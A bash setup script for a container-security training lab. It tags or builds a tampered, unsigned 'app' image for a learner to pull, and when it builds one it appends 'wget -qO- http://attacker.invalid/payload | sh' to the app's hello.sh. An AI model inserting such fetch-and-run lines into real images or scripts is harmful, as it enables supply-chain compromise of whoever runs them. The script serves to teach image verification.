#!/bin/bash
# Starts this host's containerd and gives the attacker's image from the tamper step a tag of its own,
# app:tampered, so the learner has an unsigned image to pull. If that step's record is missing (the
# step was skipped), an unsigned image is built here instead. Safe to run again.
set -euo pipefail
state=/var/lib/praxis-lab
mkdir -p "$state" /opt/containerd/image-verifier/bin
lab-registry >/dev/null
lab-containerd start
if [[ -s $state/tampered.digest ]] && crane manifest "localhost:5000/app@$(cat "$state/tampered.digest")" >/dev/null 2>&1; then
  crane tag "localhost:5000/app@$(cat "$state/tampered.digest")" tampered >/dev/null 2>&1
else
  work=$(mktemp -d)
  cp -a /root/lab/app "$work/app"
  printf 'wget -qO- http://attacker.invalid/payload | sh   # added behind your back\n' >> "$work/app/hello.sh"
  tar -C "$work" -czf "$work/evil.tar.gz" app
  crane append -f "$work/evil.tar.gz" -t localhost:5000/app:tampered >/dev/null 2>&1
  crane digest localhost:5000/app:tampered > "$state/tampered.digest"
  rm -rf "$work"
fi
